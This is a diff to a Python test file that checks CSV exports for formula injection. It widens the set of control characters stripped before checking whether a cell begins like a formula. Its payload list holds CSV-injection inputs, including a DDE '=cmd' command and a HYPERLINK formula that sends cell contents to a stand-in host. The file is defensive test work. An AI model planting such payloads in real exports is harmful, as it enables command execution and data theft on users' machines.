@@ -22,6 +22,9 @@ PAYLOADS = [
     "=cmd|'/c calc'!A1", '=HYPERLINK("http://x.example?"&A1,"click")', "=IMPORTXML(A1)", "+31612345678", "-",
     "x;=1+1", "x,=1+1", "x\t=1+1", 'x"=1+1', "x\r\n=1+1", "x|=1+1", 'a";=1+1;"', "x;＝1+1", "x;'=1", "=\u0000", "-2+3",
 ]  # fmt: skip
+CONTROLS = "".join(map(chr, [*range(9), *range(14, 32), *range(127, 160)]))
+SKIPPED = " \u00a0\ufeff\u200b\u200e\u00ad\"'" + CONTROLS
+"""What a program may leave out before it looks whether a cell begins like a formula."""
 LEADERS = tuple("=+-@\t\r＝＋－＠﹦﹢﹣﹫")
 
 
@@ -42,12 +45,12 @@ def test_no_csv_cell_starts_like_a_formula_whatever_delimiter_it_is_opened_with(
     own = ";" if language == "nl" else ","
     for row in csv.reader(io.StringIO(text, newline=""), delimiter=own):
         assert not any(
-            cell.lstrip(" \u00a0\ufeff\u200b\u200e\u00ad\"'").startswith(LEADERS) and cell[:1] != "'" for cell in row
+            cell.lstrip(SKIPPED).startswith(LEADERS) and cell[:1] != "'" for cell in row
         )
     for delimiter in ";,\t|":
         for line in text.splitlines():
             for cell in line.split(delimiter):
-                assert not cell.startswith(LEADERS)
+                assert not cell.lstrip(CONTROLS).startswith(LEADERS)
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
